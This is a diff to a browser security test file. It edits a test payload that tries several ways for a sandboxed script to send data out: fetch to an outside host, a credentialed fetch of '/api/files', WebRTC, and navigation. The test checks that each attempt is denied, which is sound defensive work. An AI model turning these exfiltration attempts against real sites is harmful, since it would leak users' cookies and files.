@@ -272,7 +272,8 @@ test('the harness has teeth: without our protection the same payloads act', asyn
 /** Every way out that a script knows; each tells what became of it. */
 const WAYS_OUT = (stunPort: number) => `<!doctype html><script>
   const said = (name, what) => report({ origin: self.origin, url: name, cookie: String(what) })
-  const attempt = async (name, run) => { try { said(name, await run()) } catch (error) { said(name, 'denied') } }
+  const attempts = []
+  const attempt = (name, run) => attempts.push((async () => { try { said(name, await run()) } catch (error) { said(name, 'denied') } })())
   const url = 'https://${HOST}/out'
   attempt('fetch', async () => (await fetch(url, { mode: 'no-cors' })).type)
   attempt('own fetch', async () => (await fetch('/api/files', { credentials: 'include' })).status)
@@ -295,7 +296,8 @@ const WAYS_OUT = (stunPort: number) => `<!doctype html><script>
     await call.setLocalDescription(await call.createOffer())
     return 'denied'
   })
-  setTimeout(() => { location = url }, 700)
+  // The last: the document that replaces this one would end the others.
+  Promise.all(attempts).then(() => setTimeout(() => { location = url }, 300))
 </script>`
 
 test('S48: a script that was let run finds no way out', async ({ harness, baseURL }) => {
